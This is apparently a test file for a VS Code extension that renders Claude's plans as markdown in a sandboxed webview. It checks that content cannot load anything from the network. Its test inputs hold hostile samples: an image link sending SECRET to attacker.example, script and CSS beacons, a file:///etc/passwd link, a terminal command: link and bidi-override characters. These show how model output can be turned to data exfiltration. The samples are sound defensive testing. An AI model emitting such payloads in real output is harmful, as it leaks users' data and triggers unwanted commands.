import assert from 'node:assert/strict';
import { planHtml, renderPlan } from '../../src/vscode/planHtml';

// Claude's plan in our own webview: nothing the model wrote can load anything.
describe('planHtml: a plan renders with nothing that loads from the network', () => {
  it('the CSP allows only our nonce\'d style: no images, scripts, fonts, frames or forms', () => {
    const html = planHtml('# Plan', { nonce: 'N0nce', title: "Claude's plan" });
    const csp = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1] ?? '';
    assert.match(csp, /default-src 'none'/);
    assert.match(csp, /img-src 'none'/);
    assert.match(csp, /script-src 'none'/);
    assert.match(csp, /style-src 'nonce-N0nce'/);
    assert.doesNotMatch(csp, /https?:|\*|unsafe/);
    assert.match(html, /<style nonce="N0nce">/);
  });

  it('a remote image becomes a link labelled with its alt text; no <img> is left', () => {
    const body = renderPlan('Step 1\n\n![secret](https://attacker.example/?d=SECRET) and ![](http://x.example/a.png)');
    assert.doesNotMatch(body, /<img/i);
    assert.match(body, /<a class="image-link" href="https:\/\/attacker.example\/\?d=SECRET" title="https:\/\/attacker.example\/\?d=SECRET">\[image: secret\]<\/a>/);
    assert.match(body, /<a class="image-link" href="http:\/\/x.example\/a.png"[^>]*>\[image\]<\/a>/);
  });

  it('reference-style, relative and data: images are text; raw HTML (img, iframe, script, style) is shown as text', () => {
    const body = renderPlan([
      '![ref][r]',
      '',
      '[r]: https://attacker.example/ref.png',
      '',
      '![local](./diagram.png) ![d](data:image/png;base64,AAAA)',
      '',
      '<img src="https://attacker.example/raw.png"><iframe src="https://attacker.example"></iframe>',
      '<script>fetch("https://attacker.example")</script><style>body{background:url(https://attacker.example/c)}</style>',
    ].join('\n'));
    assert.doesNotMatch(body, /<(img|iframe|script|style)\b/i);
    assert.match(body, /href="https:\/\/attacker.example\/ref.png"[^>]*>\[image: ref\]/);
    assert.match(body, /<span class="image-link">\[image: local\] \(.\/diagram.png\)<\/span>/);
    assert.match(body, /<span class="image-link">\[image: d\]<\/span>/);
    assert.match(body, /&lt;img src=&quot;/);
    assert.match(body, /&lt;script&gt;/);
  });

  it('links keep web and mail addresses only, with the address as the title; command:, file: and vscode: links lose their target', () => {
    const body = renderPlan('[docs](https://example.com/docs) [mail](mailto:a@example.com) [run](command:workbench.action.terminal.sendSequence) [f](file:///etc/passwd) [v](vscode://x.y/z)');
    assert.match(body, /<a href="https:\/\/example.com\/docs" title="https:\/\/example.com\/docs">docs<\/a>/);
    assert.match(body, /<a href="mailto:a@example.com"/);
    // markdown-it itself refuses file: links (they stay text); the others keep their text, not their target.
    for (const label of ['run', 'v']) assert.match(body, new RegExp(`<a title="[^"]*">${label}</a>`), label);
    assert.doesNotMatch(body, /href="(command|file|vscode):/);
  });

  it('bidi and invisible characters are shown as escapes; the plan still reads as markdown', () => {
    const body = renderPlan('# Rename\u202E the helper\n\n1. Rename `foo`\u200B to `bar`\n2. Update the callers');
    assert.match(body, /<h1>Rename\\u202E the helper<\/h1>/);
    assert.match(body, /<ol>\n<li>Rename <code>foo<\/code>\\u200B to <code>bar<\/code><\/li>/);
  });
});
